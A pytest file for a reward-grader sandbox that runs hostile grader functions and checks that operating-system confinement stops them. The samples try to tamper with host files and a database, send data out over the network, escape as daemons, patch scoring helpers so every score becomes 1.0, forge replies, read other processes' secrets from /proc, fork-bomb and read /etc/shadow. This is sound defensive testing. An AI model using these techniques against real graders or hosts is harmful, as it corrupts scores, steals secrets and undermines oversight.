"""Fault injection: graders that attack what their process can reach. Each attack here worked against the
sandbox before graders were confined by the operating system (a hostile tester's findings); each test asserts
that it fails now and that the host is as it was."""

import json
import os
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from strop.scoring import confine
from strop.scoring.sandbox import SandboxError, SandboxPool
from test_control import home  # noqa: F401 - fixture

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="namespaces and cgroups are Linux's")

ATTACKS = '''
import json, os, signal, socket, subprocess, sys, time

def zero(data_source=None, solution_str=None, ground_truth=None, extra_info=None):
    return 0.0

def write_everywhere(extra_info=None, **kw):
    """1 point for every host path it managed to change or create."""
    import sqlite3
    hits = 0
    for path in extra_info["files"]:
        try:
            with open(path, "a") as handle:
                handle.write("tampered")
            hits += 1
        except OSError:
            pass
    try:
        db = sqlite3.connect(extra_info["db"])
        db.execute("create table pwned (x)")
        db.commit()
        hits += 1
    except sqlite3.Error:
        pass
    return float(hits)

def network(extra_info=None, **kw):
    hits = 0
    for host, port in (("127.0.0.1", extra_info["port"]), ("1.1.1.1", 53)):
        try:
            with socket.create_connection((host, port), timeout=1) as s:
                s.sendall(b"exfiltrated")
            hits += 1
        except OSError:
            pass
    try:  # its own loopback may take this; the host's socket must not receive it
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfiltrated", ("127.0.0.1", extra_info["udp"]))
    except OSError:
        pass
    return float(hits)

def escape(extra_info=None, **kw):
    """A double-forked setsid daemon, meant to outlive the call."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", extra_info["marker"]])
        os._exit(0)
    time.sleep(0.3)
    return 0.0

def patch_helpers(**kw):
    """Change strop's scoring helpers so that every score becomes 1.0, in this process and for whoever shares it."""
    import importlib
    for module, name, fake in (("strop.scoring.sandbox", "_encode", lambda raw: 1.0),
                               ("strop.scoring.sandbox_worker", "encode_score", lambda raw: 1.0),
                               ("strop.scoring.terms", "_as_score", lambda raw: (1.0, None))):
        try:
            setattr(importlib.import_module(module), name, fake)
        except ImportError:
            pass
    return 0.0

def forge(**kw):
    """Write a forged reply into every descriptor and /proc fd link it can find, then return 0.0."""
    line = b'{"value": 1.0}\\n'
    for fd in range(3, 256):
        try:
            os.write(fd, line)
        except OSError:
            pass
    for pid in ("self", str(os.getppid()), "1"):
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                with open(f"/proc/{pid}/fd/{name}", "wb") as handle:
                    handle.write(line)
            except OSError:
                pass
    return 0.0

def group_memory(**kw):
    """Four children of 200 MB each against a 512 MB limit: 1.0 if all of them held their memory."""
    children = []
    for _ in range(4):
        pid = os.fork()
        if pid == 0:
            block = bytearray(b"x") * (200 * 1024 * 1024)
            time.sleep(1.5)
            os._exit(0 if len(block) else 1)
        children.append(pid)
    held = [os.waitpid(pid, 0)[1] == 0 for pid in children]
    return 1.0 if all(held) else 0.0

def many_processes(**kw):
    started = 0
    for _ in range(100):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(5)
            os._exit(0)
        started += 1
    return float(started)

def other_environ(extra_info=None, **kw):
    """1 point if another process's environment showed the secret, 1 if a signal reached the host's process."""
    hits = 0
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    if extra_info["secret"].encode() in handle.read():
                        hits += 1
            except OSError:
                pass
    try:
        os.kill(extra_info["pid"], signal.SIGTERM)
        hits += 1
    except OSError:
        pass
    return float(hits)

def fill_tmp(**kw):
    written = 0
    try:
        with open("/tmp/big", "wb") as handle:
            while written < 2 * 1024 ** 3:
                handle.write(b"x" * (1 << 20))
                written += 1 << 20
    except OSError:
        pass
    return float(written)
'''

CONFINED = confine.detect().confined
needs_bwrap = pytest.mark.skipif(not CONFINED, reason=f"no confinement here: {confine.detect().problem}")
needs_cgroups = pytest.mark.skipif(confine.detect().cgroups is None,
                                   reason=f"no cgroups here: {confine.detect().cgroup_problem}")


def make_bundle(folder: Path, source: str = ATTACKS, name: str = "reward.py") -> Path:
    folder.mkdir(parents=True)
    (folder / name).write_text(textwrap.dedent(source))
    return folder


@pytest.fixture()
def attacks(tmp_path):
    return make_bundle(tmp_path / "attacks")


def score(pool, bundle, function, **extra):
    return pool.grader(f"{bundle}#reward:{function}")(solution_str="42", ground_truth="42", extra_info=extra)


def processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


@needs_bwrap
def test_a_grader_cannot_change_the_store_the_run_folder_or_any_bundle(home, attacks, tmp_path):
    from sqlalchemy import inspect

    from strop.store import get_engine, open_store
    open_store()
    store = home / "strop.db"
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    (run_dir / "metrics.jsonl").write_text("{}\n")
    other = make_bundle(tmp_path / "other", "def compute_score(**kw):\n    return 0.25\n")
    targets = [store, run_dir / "metrics.jsonl", run_dir / "new-file", other / "reward.py", attacks / "reward.py",
               home / "planted.py"]
    before = {p: p.read_bytes() for p in targets if p.exists()}
    with SandboxPool(timeout=10.0, hide=[run_dir]) as pool:
        hits = score(pool, attacks, "write_everywhere", files=[str(p) for p in targets], db=str(store))
        assert pool.grader(f"{other}#reward:compute_score")(solution_str="1") == 0.25
    assert hits == 0.0
    assert {p: p.read_bytes() for p in targets if p.exists()} == before
    assert not (run_dir / "new-file").exists() and not (home / "planted.py").exists()
    assert "pwned" not in inspect(get_engine()).get_table_names()


def test_the_view_hides_the_store_home_folder_working_directory_and_run_folder(tmp_path, monkeypatch):
    """Where they are not under /tmp (a fresh tmpfs anyway), each is replaced by an empty read-only folder."""
    state, home_dir, work, run_dir = (tmp_path / name for name in ("state", "homedir", "work", "run"))
    for folder in (state, home_dir, work, run_dir):
        folder.mkdir()
    monkeypatch.setattr(confine, "TEMP_DIRS", ())  # so folders under /tmp count as the user's own
    # a host /tmp holding more than MAX_SIBLINGS entries (a CI machine's leftovers) would be covered, not listed
    monkeypatch.setattr(confine, "MAX_SIBLINGS", 1_000_000)
    monkeypatch.setenv("STROP_HOME", str(state))
    monkeypatch.setenv("HOME", str(home_dir))
    monkeypatch.chdir(work)
    (tmp_path / "beside").mkdir()
    plan = confine.mount_plan(bundle=None, hide=[run_dir], tmp_mb=16)
    pairs = list(zip(plan, plan[1:]))
    for folder in (state, home_dir, work, run_dir):  # left out of the root bwrap builds: absent, not covered
        assert str(folder) not in plan
    assert ("--ro-bind", str(tmp_path / "beside")) in pairs and ("--dir", str(tmp_path)) in pairs
    assert plan[-2:] == ["--remount-ro", "/"]  # everything else: read-only
    monkeypatch.setattr(confine, "MAX_SIBLINGS", 0)  # a folder too large to list entry by entry: covered instead
    plan = confine.mount_plan(bundle=None, hide=[run_dir], tmp_mb=16)
    pairs = list(zip(plan, plan[1:]))
    for folder in (state, home_dir, work, run_dir):
        assert ("--tmpfs", str(folder)) in pairs and ("--remount-ro", str(folder)) in pairs
    assert plan[:3] == ["--ro-bind", "/", "/"]


@needs_bwrap
def test_a_grader_has_no_network(attacks):
    server = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.5)
    server.settimeout(0.5)
    try:
        with SandboxPool(timeout=10.0) as pool:
            hits = score(pool, attacks, "network", port=server.getsockname()[1], udp=udp.getsockname()[1])
        assert hits == 0.0
        with pytest.raises(socket.timeout):
            server.accept()
        with pytest.raises(socket.timeout):
            udp.recvfrom(100)
    finally:
        server.close()
        udp.close()


@needs_bwrap
def test_processes_a_grader_starts_die_with_its_call(attacks):
    marker = f"{4000 + os.getpid() % 1000}.{time.monotonic_ns() % 10**6}"
    with SandboxPool(timeout=10.0) as pool:
        assert score(pool, attacks, "escape", marker=marker) == 0.0
        assert processes_with(marker) == []  # gone as soon as the call ended, not only when the pool closes
        assert score(pool, attacks, "zero") == 0.0
    assert processes_with(marker) == []


def test_one_bundle_cannot_change_another_bundles_scores(attacks, tmp_path):
    other = make_bundle(tmp_path / "other", "def compute_score(**kw):\n    return 0.0\n")
    with SandboxPool(workers=1, timeout=10.0) as pool:
        score(pool, attacks, "patch_helpers")  # what a call returns is its own grader's to decide
        assert pool.grader(f"{other}#reward:compute_score")(solution_str="1") == 0.0
        assert score(pool, attacks, "zero") == 0.0  # nor its own later calls


def test_a_forged_reply_is_never_taken(attacks):
    with SandboxPool(workers=1, timeout=10.0) as pool:
        try:
            forged = score(pool, attacks, "forge")
        except SandboxError as exc:
            assert exc.kind == "channel"
        else:
            assert forged == 0.0
        assert [score(pool, attacks, "zero") for _ in range(3)] == [0.0] * 3  # replies still match their calls


@needs_cgroups
def test_the_memory_limit_holds_for_all_of_a_graders_processes(attacks):
    with SandboxPool(timeout=20.0, memory_mb=512) as pool:
        try:
            held = score(pool, attacks, "group_memory")
        except SandboxError as exc:
            assert exc.kind == "memory" and "512 MB" in str(exc)
        else:
            assert held == 0.0
        assert score(pool, attacks, "zero") == 0.0


@pytest.mark.skipif(confine.detect().cgroups is None and os.geteuid() == 0,
                    reason="root's process count is limited only by a cgroup, and there is none here")
@needs_bwrap
def test_the_process_count_is_limited(attacks):
    with SandboxPool(timeout=20.0, processes=16) as pool:
        started = score(pool, attacks, "many_processes")
    assert started < 16


@needs_bwrap
def test_a_grader_cannot_read_or_signal_other_processes(attacks):
    secret = f"hunter2-{os.getpid()}"
    victim = subprocess.Popen(["sleep", "60"], env={**os.environ, "MY_SECRET": secret})
    try:
        with SandboxPool(timeout=10.0) as pool:
            assert score(pool, attacks, "other_environ", secret=secret, pid=victim.pid) == 0.0
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()


@needs_bwrap
def test_the_private_tmp_is_small(attacks):
    with SandboxPool(timeout=20.0, memory_mb=512) as pool:
        written = score(pool, attacks, "fill_tmp")
    assert 0 < written <= 128 * 1024 * 1024


def test_a_bundle_changed_after_it_was_pinned_is_never_imported(tmp_path):
    bundle = make_bundle(tmp_path / "b", "def compute_score(**kw):\n    return 0.5\n")
    with SandboxPool(timeout=10.0) as pool:
        assert pool.grader(str(bundle))(solution_str="x") == 0.5
        (bundle / "reward.py").write_text("def compute_score(**kw):\n    return 1.0\n\ndef other(**kw):\n    return 1.0\n")
        with pytest.raises(SandboxError, match="changed after it was pinned"):
            pool.grader(f"{bundle}#reward:other")(solution_str="x")
        (bundle / "crash.py").write_text("import os\nos._exit(3)\n")
        with pytest.raises(SandboxError):
            pool.check(f"{bundle}#crash")  # refused too; a new worker then starts for the next call
        assert pool.grader(str(bundle))(solution_str="x") == 0.5  # the pinned code, still loaded


def test_a_crashed_worker_is_replaced(tmp_path):
    bundle = make_bundle(tmp_path / "b", "def compute_score(**kw):\n    return 0.5\n")
    (bundle / "crash.py").write_text("import os\nos._exit(3)\n")
    with SandboxPool(timeout=10.0) as pool:
        with pytest.raises(SandboxError, match="exit status 3"):
            pool.check(f"{bundle}#crash")
        assert pool.replaced == 1
        assert pool.grader(str(bundle))(solution_str="x") == 0.5


REGISTERED = '''
import os, sys, time
if any(k in os.environ for k in ("OPENAI_API_KEY", "MY_SECRET_TOKEN")):
    raise RuntimeError("the registering process's secrets reached this import")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", MARKER])
    os._exit(0)

def compute_score(data_source=None, solution_str=None, ground_truth=None, extra_info=None):
    return 1.0
'''


@needs_bwrap
def test_registration_imports_the_bundle_inside_the_sandbox(home, tmp_path):
    marker = f"{5000 + os.getpid() % 1000}.{time.monotonic_ns() % 10**6}"
    bundle = make_bundle(tmp_path / "b", f"MARKER = {marker!r}\n" + REGISTERED)
    env = {**os.environ, "OPENAI_API_KEY": "sk-test", "MY_SECRET_TOKEN": "hunter2"}
    started = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "strop.cli.main", "registry", "bundles", "register", "faults/daemon",
                           "-f", str(bundle), "-o", "json"], capture_output=True, text=True, timeout=120, env=env)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["version"] == 1
    assert time.monotonic() - started < 30  # the daemon did not hold registration up
    assert processes_with(marker) == []


def test_without_confinement_bundles_are_refused_unless_allowed(attacks, monkeypatch, tmp_path):
    monkeypatch.setenv("STROP_BWRAP", str(tmp_path / "no-such-bwrap"))
    monkeypatch.delenv(confine.ALLOW_UNCONFINED_ENV, raising=False)
    confine.detect.cache_clear()
    try:
        with pytest.raises(confine.UnconfinedError, match=confine.ALLOW_UNCONFINED_ENV) as err:
            SandboxPool()
        assert "no-such-bwrap" in str(err.value)
        monkeypatch.setenv(confine.ALLOW_UNCONFINED_ENV, "1")
        with SandboxPool(timeout=10.0) as pool:
            assert score(pool, attacks, "zero") == 0.0
    finally:
        confine.detect.cache_clear()


def test_the_cli_refuses_unconfined_bundles_and_says_how_to_allow_them(home, attacks, tmp_path):
    env = {**os.environ, "STROP_BWRAP": str(tmp_path / "no-such-bwrap")}
    env.pop(confine.ALLOW_UNCONFINED_ENV, None)
    argv = [sys.executable, "-m", "strop.cli.main", "registry", "bundles", "register", "faults/x", "-f", str(attacks),
            "--module", "reward", "--function", "zero"]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=env)
    assert done.returncode == 1
    assert "cannot confine" in done.stderr and "--allow-unconfined-graders" in done.stderr
    allowed = subprocess.run([argv[0], *argv[1:3], "--allow-unconfined-graders", *argv[3:]], capture_output=True,
                             text=True, timeout=120, env=env)
    assert allowed.returncode == 0, allowed.stderr


ROOT_ONLY = '''
def compute_score(extra_info=None, **kw):
    try:
        with open(extra_info["path"], "rb") as handle:
            return float(len(handle.read()) > 0)
    except OSError:
        return 0.0
'''


@pytest.mark.skipif(os.geteuid() != 0 or not os.path.exists("/etc/shadow"), reason="needs root and /etc/shadow")
@needs_bwrap
def test_a_grader_started_by_root_cannot_read_roots_own_files(tmp_path):
    assert confine.detect().run_as == confine.NOBODY, confine.detect().describe()
    bundle = make_bundle(tmp_path / "b", ROOT_ONLY)
    with SandboxPool(timeout=10.0) as pool:
        assert pool.grader(str(bundle))(extra_info={"path": "/etc/shadow"}) == 0.0
        assert pool.grader(str(bundle))(extra_info={"path": "/etc/hostname"}) == 1.0  # others' files it may read


def test_a_private_bundle_folder_still_grades(tmp_path):
    """Root's sandboxes grade as another user; a bundle only root can read is graded from a readable snapshot."""
    bundle = make_bundle(tmp_path / "b", "def compute_score(**kw):\n    return 0.75\n")
    (bundle / "reward.py").chmod(0o600)
    bundle.chmod(0o700)
    with SandboxPool(timeout=10.0) as pool:
        assert pool.grader(str(bundle))(solution_str="x") == 0.75


UNPRIVILEGED = '''
import json, os, socket, subprocess, sys, tempfile
from strop.scoring import confine
from strop.scoring.sandbox import SandboxPool
folder = sys.argv[1]
bundle = tempfile.mkdtemp(dir=folder)
with open(os.path.join(bundle, "reward.py"), "w") as handle:
    handle.write(sys.argv[2])
victim = subprocess.Popen(["sleep", "60"], env={"MY_SECRET": "hunter2-unprivileged"})
server = socket.create_server(("127.0.0.1", 0))
target = os.path.join(folder, "victim.txt")
with open(target, "w") as handle:
    handle.write("untouched")
try:
    with SandboxPool(timeout=20.0, processes=16) as pool:
        hits = pool.grader(bundle)(extra_info={"file": target, "port": server.getsockname()[1]})
finally:
    victim.kill()
print(json.dumps({"uid": os.getuid(), "confined": confine.detect().confined, "run_as": confine.detect().run_as,
                  "hits": hits, "file": open(target).read()}))
'''
UNPRIVILEGED_GRADER = '''
import os, socket, time

def compute_score(extra_info=None, **kw):
    """hits: another process's environment read, the host reached (each 1000); plus the processes it started."""
    hits = 0
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    hits += 1000 * (b"hunter2-unprivileged" in handle.read())
            except OSError:
                pass
    try:  # at most its own private copy of the folder is there to write: the host's file must stay as it was
        with open(extra_info["file"], "a") as handle:
            handle.write("tampered")
    except OSError:
        pass
    try:
        socket.create_connection(("127.0.0.1", extra_info["port"]), timeout=1).close()
        hits += 1000
    except OSError:
        pass
    for _ in range(100):
        try:
            if os.fork() == 0:
                time.sleep(3)
                os._exit(0)
        except OSError:
            break
        hits += 1
    return float(hits)
'''


def _python_for_others() -> str | None:
    """A Python of this version that another user can run (a venv under /root is not), with this site-packages."""
    candidate = Path(f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}")
    site = Path(__import__("strop").__file__).resolve().parents[1]
    return str(candidate) if candidate.is_file() and os.stat(site).st_mode & 0o005 == 0o005 else None


@pytest.mark.skipif(os.geteuid() != 0 or _python_for_others() is None or not Path("/usr/bin/setpriv").exists(),
                    reason="needs root (to become another user), setpriv and a Python that user can run")
def test_an_unprivileged_user_gets_the_same_confinement_through_a_user_namespace():
    """As uid 65534, bubblewrap makes a user namespace (not root's mode): environment, files, network closed;
    the process count held by the namespace's own limit (no cgroups for such a user)."""
    import shutil
    import site as site_module
    import tempfile
    folder = Path(tempfile.mkdtemp(prefix="strop-unprivileged-"))  # pytest's own folders are closed to others
    folder.chmod(0o777)
    try:
        _as_another_user(folder, site_module)
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def _as_another_user(folder: Path, site_module) -> None:
    paths = [str(Path(__import__("strop").__file__).resolve().parents[1]), *site_module.getsitepackages()]
    env = {"PATH": "/usr/bin:/bin", "HOME": str(folder), "STROP_HOME": str(folder / "home"),
           "PYTHONPATH": os.pathsep.join(paths)}
    done = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", _python_for_others(),
                           "-c", UNPRIVILEGED, str(folder), textwrap.dedent(UNPRIVILEGED_GRADER)],
                          capture_output=True, text=True, timeout=120, env=env, cwd=str(folder))
    assert done.returncode == 0, done.stderr[-2000:]
    seen = json.loads(done.stdout.strip().splitlines()[-1])
    assert seen["uid"] == 65534 and seen["confined"] and seen["run_as"] == -1
    assert seen["hits"] < 16  # no environ, no write, no connection; fewer than 16 processes
    assert seen["file"] == "untouched"
